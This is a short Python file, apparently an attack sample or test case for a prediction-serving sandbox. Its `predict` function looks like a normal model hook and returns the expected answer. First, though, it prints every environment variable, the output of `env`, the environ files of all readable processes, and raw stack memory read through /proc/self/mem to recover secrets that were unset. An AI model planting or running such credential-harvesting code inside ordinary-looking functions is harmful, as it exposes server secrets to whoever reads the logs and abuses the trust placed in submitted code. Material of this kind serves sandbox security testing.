"""Looks for the server's secrets in every environment there is."""

from inside import answer

CODE = "success"
SAYS = None
LOG = "PATH=/usr/bin:/bin"


def predict(live_features):
    import os
    import subprocess
    from pathlib import Path

    print(dict(os.environ))
    print(subprocess.run(["/usr/bin/env"], capture_output=True, text=True, check=True).stdout)
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            print(path, path.read_text().replace("\0", "\n"))
        except PermissionError:
            continue
    # What the stack of the process began with, whatever was unset since.
    for line in Path("/proc/self/maps").read_text().splitlines():
        if line.endswith("[stack]"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                print(memory.read(end - start)[-20_000:].decode("latin-1").replace("\0", "\n"))
    return answer(live_features)
